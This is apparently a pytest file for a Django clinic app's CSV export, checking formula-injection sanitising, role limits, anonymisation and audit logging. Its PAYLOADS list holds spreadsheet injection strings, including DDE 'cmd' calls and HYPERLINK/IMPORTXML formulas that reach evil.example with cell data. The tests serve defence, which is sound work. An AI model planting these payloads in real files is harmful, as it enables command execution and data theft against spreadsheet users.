"""CSV: who may, what is in it, and that no spreadsheet runs it (S10)."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse

from clinic.models import AuditEvent
from clinic.roles import Role
from intake.questionnaire.asked import QUESTIONNAIRE
from screening.exports.cells import safe
from screening.services import screen
from tests import builders

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PAYLOADS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "=1;=2"),
    *("\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\u2060=1", "\u3000=1+1"),
    *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "  @x", "\t+1", "\t\t-1", "\x0b=1", "\x0c=1", "\x1f=1"),
    *('"=1+1', "'=1+1", "\"'=1", "''=1", "a\n=1+1", "a\r\n=1+1", "a,=1+1", "a;=1+1", "a\t=1+1", 'a","=1+1', 'a";"=1+1'),
    "=IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")", "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]  # fmt: skip


def parsed(text, delimiter=","):
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter))


@pytest.fixture
def download(client, practice):
    """download("answers") is the file of the last ten days, as text."""

    def post(what="answers", user=None, days=10, status=200):
        client.force_login(user or builders.staff(practice, Role.LEAD))
        today = builders.today()
        data = {"since": today - timedelta(days=days), "until": today, "what": what}
        response = client.post(reverse("exports", args=["elm"]), data)
        assert response.status_code == status
        return response.getvalue().decode() if response.streaming else response.content.decode()

    return post


def test_there_are_forty_payloads():
    assert len(set(PAYLOADS)) == 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_begins_as_a_formula(payload):
    cell = safe(payload)
    assert not cell.startswith(DANGEROUS)
    assert not cell.lstrip('\ufeff\u200b\u2060\x0b\x0c\x1f \t\r\n\u00a0\u3000"').startswith(DANGEROUS)
    for separator in (",", ";", "\t", "\n", "\r"):
        assert not any(part.lstrip(' "').startswith(DANGEROUS[:4]) for part in cell.split(separator))


def test_what_is_no_formula_stays_as_it_is():
    for text in ("", "2026-11-20", "My legs - both", "a+b", "4-5 years", "ana@example", "x = y", "3.5", "don't"):
        assert safe(text) == text


def test_the_file_holds_no_formula_byte_for_byte(download, screened):
    for payload in PAYLOADS:
        if not any(ord(c) < 32 and c not in "\t\r\n" for c in payload):
            screened(own_questions=payload, anything_else=payload)
    text = download("answers")
    for delimiter in (",", ";", "\t"):
        cells = [cell for row in parsed(text, delimiter) for cell in row]
        assert not [cell for cell in cells if cell.startswith(DANGEROUS)]
    assert len(parsed(text)) == 1 + sum(not any(ord(c) < 32 and c not in "\t\r\n" for c in p) for p in PAYLOADS)


def test_every_question_has_its_column(download, screened):
    screened(clots=["dvt", "svt"], clot_date={"absent": "not-sure"}, own_questions="Will it hurt?")
    head, row = parsed(download("answers"))
    assert {question.link_id for question in QUESTIONNAIRE.questions} < set(head)
    told = dict(zip(head, row, strict=True))
    assert told["clots"] == "dvt; svt"
    assert told["clot-date"] == "(not-sure)"
    assert told["own-questions"] == "Will it hurt?"
    assert told["surface-clot-date"] == ""
    assert told["weight"] == "68"


def test_a_screening_is_a_row(download, screened):
    screening = screened(feeding="yes")
    head, row = parsed(download("screenings"))
    told = dict(zip(head, row, strict=True))
    assert told["intake"] == screening.revision.intake.reference
    assert told["recommendation"] == "contraindication-documented"
    assert "breastfeeding (contraindicated)" in told["raised"]
    assert told["decision"] == ""


def test_nobody_is_named(download, screened):
    screened(name="Ana Unmistakable")
    for what in ("answers", "screenings"):
        text = download(what)
        assert "Unmistakable" not in text
        assert "ana@patient.example" not in text


def test_only_the_period_and_only_this_practice(download, screened, practice):
    here, other = screened(), builders.practice(slug="oak")
    elsewhere = screened(at=other)
    intake = builders.intake(builders.appointment(builders.patient(practice)))
    old = screen(builders.revision(intake, answered_on=builders.today() - timedelta(days=11)))
    for what in ("answers", "screenings"):
        text = download(what)
        assert here.revision.intake.reference in text
        assert elsewhere.revision.intake.reference not in text
        assert old.revision.intake.reference not in text
    assert old.revision.intake.reference in download("answers", days=11)


def test_who_was_erased_is_not_in_it(download, screened):
    screening = screened()
    screening.revision.intake.patient.data_key.destroy()
    assert len(parsed(download("answers"))) == 1
    assert len(parsed(download("screenings"))) == 1


@pytest.mark.parametrize("role", [Role.FRONT_DESK, Role.CLINICIAN, Role.ADMIN])
def test_only_the_lead_exports(download, practice, role):
    download(user=builders.staff(practice, role), status=404)
    assert not AuditEvent.objects.filter(action="exported").exists()


def test_each_export_leaves_one_row(download, screened, practice):
    screened()
    download("screenings")
    event = AuditEvent.objects.get(action="exported")
    today = builders.today()
    assert event.details == {
        "what": "screenings", "rows": 1,
        "since": (today - timedelta(days=10)).isoformat(), "until": today.isoformat(),
    }  # fmt: skip


def test_a_period_that_is_none_is_refused(download):
    assert "This is before the first day." in download(days=-1, status=422)
    assert not AuditEvent.objects.filter(action="exported").exists()
